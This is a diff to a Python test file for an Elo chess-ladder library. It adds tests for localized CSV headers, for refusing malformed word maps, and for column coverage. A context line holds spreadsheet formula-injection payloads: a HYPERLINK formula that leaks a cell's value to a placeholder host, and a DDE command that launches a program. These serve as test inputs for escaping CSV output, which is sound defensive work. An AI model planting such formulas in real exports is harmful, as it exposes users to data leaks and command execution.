@@ -16,7 +16,14 @@ import pytest
 
 from elo_core.bridge import ladder
 from elo_core.contract.csv_writer import cell, table_csv, write_csv
-from elo_core.reports.ladder import ladder_csv, ladder_report
+from elo_core.reports.ladder import (
+    HISTORY_COLUMNS,
+    LEAGUE_HISTORY,
+    RANKING_COLUMNS,
+    ladder_csv,
+    ladder_report,
+    vocabulary,
+)
 from elo_core.transport.cli import main
 
 HOSTILE = ('=HYPERLINK("http://x"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
@@ -48,6 +55,34 @@ def test_the_bridge_csv_kind_guards_the_ranking() -> None:
     answer = json.loads(ladder(json.dumps({"text": LEDGER})))
     text = json.loads(ladder(json.dumps({"kind": "csv", "players": answer["players"]})))["csv"]
     assert "'" + HOSTILE[0] in {row[3] for row in cells(text)}
+
+
+def test_the_ranking_csv_takes_the_page_s_words_for_its_headers_and_flags() -> None:
+    """The widget's ladder sends its language's words, as its report's CSV has them (hp85: English on a German
+    page); a column without a word keeps its key."""
+    answer = ladder_report({"text": "date,white,black,result\n2026-01-05,Anna,Ben,1-0\n"})
+    words = {"rank": "Rang", "name": "Name", "active": "Aktiv", "yes": "ja", "no": "nein"}
+    rows = cells(json.loads(ladder(json.dumps({"kind": "csv", "players": answer["players"], "separator": ";",
+                                              "words": words})))["csv"], ";")
+    assert ["pool", "Rang", "id", "Name"] == rows[0][:4]
+    assert ["ja", "ja"] == [row[rows[0].index("Aktiv")] for row in rows[1:]]
+    assert "yes" == cells(ladder_csv({"players": answer["players"]})["csv"])[1][RANKING_COLUMNS.index("active")]
+
+
+def test_a_history_csv_takes_the_page_s_headers() -> None:
+    answer = ladder_report({"text": "date,white,black,result\n2026-01-05,Anna,Ben,1-0\n"})
+    history = answer["players"][0]["history"]
+    assert ["Partie", "date"] == cells(ladder_csv({"history": history, "words": {"game": "Partie"}})["csv"])[0][:2]
+
+
+def test_words_that_are_not_texts_are_refused() -> None:
+    for words in (["Rang"], {"rank": 5}):
+        refused = ladder_csv({"players": [], "words": words})
+        assert ("words", "not_an_object") == (refused["errors"][0]["field"], refused["errors"][0]["code"])
+
+
+def test_the_widget_s_contract_lists_every_column_a_ladder_csv_may_have() -> None:
+    assert set(RANKING_COLUMNS) | set(HISTORY_COLUMNS) | set(LEAGUE_HISTORY) <= set(vocabulary()["csv_columns"])
 
 
 def run_cli(tmp_path: Path, *argv: str) -> tuple[int, str]:
